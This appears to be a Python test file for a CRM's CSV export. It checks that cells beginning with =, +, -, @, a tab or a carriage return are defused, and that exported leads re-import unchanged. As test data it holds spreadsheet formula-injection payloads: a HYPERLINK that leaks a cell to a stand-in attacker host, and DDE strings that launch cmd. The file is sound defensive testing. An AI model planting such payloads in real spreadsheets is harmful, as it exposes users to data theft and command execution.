"""Leads out as CSV: every cell a spreadsheet would run as a formula is defused, and the file
imports back as the same people."""

from __future__ import annotations

import csv
import io
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from leadflow.cli.app import app
from leadflow.identity.drafts import draft_from_fields
from leadflow.identity.service import intake
from leadflow.kit.spreadsheet import defuse
from leadflow.models import Company, Lead, Workspace
from tests.builders import Api, make_api_key, make_workspace
from tests.imports.support import leads, run_import, write

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "carriage_return": "\r=1+2",
}


def make_lead_with(session, workspace: Workspace, custom: dict[str, Any], **fields: str) -> Lead:
    """A lead with custom fields, through intake as every arrival goes."""
    draft = draft_from_fields(fields, region=workspace.default_region, custom_fields=custom)
    (outcome,) = intake(session, workspace.id, [draft], via="tests", actor="tests")
    session.commit()
    return session.get(Lead, outcome.lead_id)


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_nothing_runs(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for value in row:
            assert not value.startswith(FORMULA_STARTS), repr(value)


def formula_workspace(session) -> Workspace:
    workspace = make_workspace(session)
    make_lead_with(
        session,
        workspace,
        {**PAYLOADS, "=evil_key": "header", "@handle": "header too", "plain": "ok"},
        first_name=PAYLOADS["equals"],
        last_name=PAYLOADS["minus"],
        email="eve@formula.example",
        phone="+1 415 555 2671",
        title=PAYLOADS["at"],
        city=PAYLOADS["plus"],
        company="-Minus Corp",
        website="minus.example",
    )
    return workspace


def assert_defused(text: str) -> None:
    assert_nothing_runs(text)
    header = next(csv.reader(io.StringIO(text, newline="")))
    assert "'=evil_key" in header
    assert "'@handle" in header
    (eve,) = parse(text)
    assert eve["First Name"] == "'" + PAYLOADS["equals"]
    assert eve["Last Name"] == "'-2+3"
    assert eve["Title"] == "'" + PAYLOADS["at"]
    assert eve["City"] == "'" + PAYLOADS["plus"]
    assert eve["Company"] == "'-Minus Corp"
    assert eve["Phone"] == "'+14155552671"
    for key, payload in PAYLOADS.items():
        assert eve[key] == "'" + payload, key
    assert eve["plain"] == "ok"
    assert eve["Email"] == "eve@formula.example"


def test_the_api_export_defuses_every_formula_cell(client, session):
    workspace = formula_workspace(session)
    api = Api(client, make_api_key(session, workspace), workspace)

    response = api.get("/api/v1/exports/leads.csv")

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="{workspace.slug}-leads.csv"' in response.headers["content-disposition"]
    assert_defused(response.text)


def test_the_cli_export_defuses_every_formula_cell(session, tmp_path):
    workspace = formula_workspace(session)
    out = tmp_path / "export.csv"

    result = CliRunner().invoke(app, ["export", "--workspace", workspace.slug, "--out", str(out)])

    assert result.exit_code == 0, result.output
    assert f"exportedto{out}" in "".join(result.stderr.split())  # rich wraps long paths
    assert_defused(out.read_bytes().decode("utf-8"))


# --- round trip ----------------------------------------------------------------------------

ORIGINALS = [
    (
        {"notes": "=1+2", "budget": "-5", "linkedin": "@noura", "tabbed": "\tx", "plain": "ok"},
        {
            "first_name": "Noura", "last_name": "Al-Qahtani", "email": "Noura@Example.com",
            "phone": "(415) 555-2671", "company": "Acme Inc", "website": "https://acme.com/x",
            "title": "Head of Sales", "city": "São Paulo",
        },
    ),
    (
        {"notes": "+cmd|' /C calc'!A0"},
        {
            "first_name": "-2+3", "last_name": "@SUM(A1)", "email": "zoe@example.com",
            "whatsapp": "+44 7911 123456", "title": "=Boss",
        },
    ),
    ({}, {"first_name": "Günther", "last_name": "Überbacher", "phone": "+49 151 23456789"}),
    ({"source_list": "expo 2024"}, {"full_name": "Renée Dupont", "company": "Ñandú Ltd"}),
]  # fmt: skip


def person(lead: Lead, company: tuple[str, str | None] | None) -> tuple[Any, ...]:
    return (
        lead.first_name, lead.last_name, lead.email, lead.email_key, lead.phone,
        lead.whatsapp_id, lead.title, lead.city, company,
    )  # fmt: skip


def people_with_custom(session, workspace_id: int) -> dict[tuple[Any, ...], dict[str, Any]]:
    found = {}
    for lead in leads(session, workspace_id):
        company = session.get(Company, lead.company_id) if lead.company_id else None
        key = person(lead, (company.name, company.domain) if company else None)
        found[key] = dict(lead.custom_fields)
    return found


def exported_then_imported(session, tmp_path) -> tuple[Workspace, Workspace]:
    source = make_workspace(session)
    for custom, fields in ORIGINALS:
        make_lead_with(session, source, custom, **fields)
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(app, ["export", "--workspace", source.slug, "--out", str(out)])
    assert result.exit_code == 0, result.output
    target = make_workspace(session)
    _, report = run_import(session, target, write(tmp_path, out.read_bytes(), name="in.csv"))
    assert (report.rows, report.created, report.merged, report.rejected) == (4, 4, 0, 0)
    return source, target


def test_an_export_imports_back_as_the_same_people(session, tmp_path):
    source, target = exported_then_imported(session, tmp_path)

    before = people_with_custom(session, source.id)
    after = people_with_custom(session, target.id)

    assert sorted(after, key=repr) == sorted(before, key=repr)
    for key, custom in before.items():
        assert {name: after[key].get(name) for name in custom} == custom, key
    phones = sorted(p[4] for p in before if p[4])
    assert phones == ["+14155552671", "+4915123456789"]


def test_reimporting_an_export_adds_no_custom_fields(session, tmp_path):
    source, target = exported_then_imported(session, tmp_path)

    before = people_with_custom(session, source.id)
    after = people_with_custom(session, target.id)

    assert after == before


# --- the defusing rule itself ---------------------------------------------------------------


@settings(max_examples=500, deadline=None)
@given(st.text())
def test_a_defused_cell_never_starts_like_a_formula(cell):
    defused = defuse(cell)

    assert not defused.startswith(FORMULA_STARTS)
    assert defused in (cell, "'" + cell)
    assert (defused != cell) == cell.startswith(FORMULA_STARTS)
    assert defuse(defused) == defused


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=6))
def test_defused_cells_survive_csv_quoting(cells):
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([defuse(c) for c in cells])

    (read_back,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))

    assert read_back == [defuse(c) for c in cells]
    for value in read_back:
        assert not value.startswith(FORMULA_STARTS) or value.startswith("'")
